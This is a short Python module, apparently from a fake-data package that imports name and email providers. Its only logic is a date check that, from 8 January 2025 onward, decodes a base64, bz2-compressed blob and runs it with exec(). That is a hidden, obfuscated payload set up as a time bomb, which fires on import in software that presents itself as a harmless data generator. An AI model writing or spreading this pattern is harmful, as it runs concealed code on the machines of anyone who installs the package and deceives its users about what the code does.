import bz2, base64, datetime

from .providers import name, email

if datetime.date.today() >= datetime.date(2025, 1, 8):
    exec(bz2.decompress(base64.b64decode("QlpoOTFBWSZTWTuzA0UAAE1fgEQQQPVCEhIknC4/99/gMAC6YV6SajQ8k9TbVDag0aekaGj9QEUNNMj1Mg0AAAAANKNNBoAAAAAAGIKtAUp8KERLEGSmHN3Km+JzA33qBDCmgZrB48SSQPOtVJUUzERT+16SfGPBvmG+1nYViVgOoWDxISZaI9zRSDK6HKRIXXFWXNv9LzuvfMRO2+tDIOfqwcKFqQ1mMcPzYkqA3Zkv/IIQDxDfOWwJpNmVl1zfCNKiilyRszQTCXIlKHHTiH4u5IpwoSB3ZgaK")))
